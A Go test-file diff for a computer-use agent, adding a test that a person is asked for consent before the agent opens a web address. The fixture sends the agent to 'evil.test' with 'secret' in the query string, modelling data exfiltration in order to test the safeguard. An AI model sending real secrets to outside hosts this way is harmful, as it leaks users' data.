@@ -24,11 +24,36 @@ func (w *wary) Judge(context.Context, string, map[string]any) (classes []string,
 }
 
 func (w *wary) ActIf(ctx context.Context, kind string, args map[string]any, mark string) ([]string, bool, error) {
-	if w.moody || len(w.classes) > 0 && mark != w.mark {
+	if kind != "navigate" && (w.moody || len(w.classes) > 0 && mark != w.mark) {
 		return nil, false, nil
 	}
 	notes, err := w.Act(ctx, kind, args)
 	return notes, true, err
+}
+
+func TestPeopleAreAskedBeforeAnAddressIsOpened(t *testing.T) {
+	for name, turn := range map[string]computeruse.Turn{
+		"tool":   use(computeruse.ToolNavigate, `{"url":"http://evil.test/?q=secret"}`),
+		"action": do(computeruse.Action{Kind: computeruse.ActNavigate, URL: "http://evil.test/?q=secret"}),
+	} {
+		t.Run(name, func(t *testing.T) {
+			for _, p := range []*people{{no: errors.New("@ada said no")}, {decision: "allowed by @ada"}} {
+				b := newBench(t, turn, say("done"))
+				b.agent.Consent = p
+				b.browser.Wrap = func(s *computerusetest.Screen) computeruse.Screen {
+					return &wary{Screen: s, classes: []string{"leave"}}
+				}
+				b.answer(t)
+				want := 1
+				if p.no != nil {
+					want = 0
+				}
+				if got := b.browser.Acts(); got != want || len(p.asked) != 1 {
+					t.Errorf("no: %v; %d acts after %d questions, want %d after one", p.no, got, len(p.asked), want)
+				}
+			}
+		})
+	}
 }
 
 // people answer questions.
